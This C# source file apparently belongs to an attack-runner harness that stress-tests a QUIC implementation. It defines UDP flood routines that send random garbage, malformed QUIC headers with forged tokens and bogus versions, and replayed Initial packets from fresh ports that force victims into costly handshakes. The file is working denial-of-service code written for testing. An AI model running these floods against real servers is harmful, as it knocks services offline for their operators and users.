using System.Buffers.Binary;
using System.Net.Sockets;
using Aether.Network.Links;

namespace Aether.AttackRunner.Attacks;

/// <summary>Packets of nobody: they come from sockets without QUIC.</summary>
internal static class UdpAttacks
{
    private const int PerSecond = 20_000;
    private const int Sources = 64;
    private const int InitialBytes = 1_200;
    private const int HandshakesPerSecond = 2_000;

    /// <summary>Bytes without meaning.</summary>
    public static void Garbage(AttackSite site, Tally tally) =>
        Flood(site, tally, static (random, packet) =>
        {
            random.NextBytes(packet);
            return random.Next(1, packet.Length + 1);
        });

    /// <summary>Packets that begin as QUIC says: known and unknown versions, tokens, short headers.</summary>
    public static void Headers(AttackSite site, Tally tally) =>
        Flood(site, tally, WriteHeader);

    /// <summary>Real first packets, each from a port of its own: every one costs its victim a handshake.</summary>
    public static void Handshakes(AttackSite site, Tally tally)
    {
        List<byte[]> packets = Udp.RecordInitials(site);
        Pace pace = new(HandshakesPerSecond);
        Queue<Socket> open = new();
        byte[] answer = new byte[Udp.LongestPacket];
        for (int next = 0; !site.Stop.IsCancellationRequested && packets.Count > 0;)
        {
            for (int left = pace.Take(); left > 0; left--, next++)
            {
                Socket socket = Udp.Bind(next);
                PeerAddress victim = site.Victims[next % site.Victims.Count];
                Udp.Send(socket, packets[next % packets.Count], victim.Address, tally);
                open.Enqueue(socket);
                if (open.Count > Sources * 8)
                {
                    using Socket old = open.Dequeue();
                    Udp.Drain(old, answer, tally);
                }
            }
        }
        foreach (Socket socket in open)
        {
            Udp.Drain(socket, answer, tally);
            socket.Dispose();
        }
    }

    private static void Flood(AttackSite site, Tally tally, Func<Random, byte[], int> write)
    {
        Random random = new(7);
        byte[] packet = new byte[Udp.LongestPacket];
        byte[] answer = new byte[Udp.LongestPacket];
        Socket[] sockets = [.. Enumerable.Range(0, Sources).Select(Udp.Bind)];
        Pace pace = new(PerSecond);
        while (!site.Stop.IsCancellationRequested)
        {
            for (int left = pace.Take(); left > 0; left--)
            {
                int bytes = write(random, packet);
                Socket socket = sockets[random.Next(sockets.Length)];
                Udp.Send(socket, packet.AsSpan(0, bytes), site.Victims[random.Next(site.Victims.Count)].Address, tally);
            }
            Udp.Drain(sockets[random.Next(sockets.Length)], answer, tally);
        }
        foreach (Socket socket in sockets)
        {
            Udp.Drain(socket, answer, tally);
            socket.Dispose();
        }
    }

    private static int WriteHeader(Random random, byte[] packet)
    {
        random.NextBytes(packet);
        int kind = random.Next(6);
        // A short header with an identifier of nobody; the rest have long ones.
        packet[0] = (byte)(kind == 0 ? 0x40 | (packet[0] & 0x3F) : 0xC0 | (packet[0] & 0x0F) | (random.Next(4) << 4));
        uint version = kind switch { 1 => 0, 2 => 0x0A0A0A0A, _ => 1 };
        BinaryPrimitives.WriteUInt32BigEndian(packet.AsSpan(1), version);
        packet[5] = (byte)(kind == 5 ? 255 : 8);
        packet[14] = 8;
        if (kind == 3)
        {
            // A first packet with a token that no one gave.
            packet[0] = (byte)(0xC0 | (packet[0] & 0x03));
            packet[23] = 0x40;
            packet[24] = 64;
        }
        return kind is 0 or 4 ? random.Next(30, InitialBytes) : InitialBytes;
    }
}
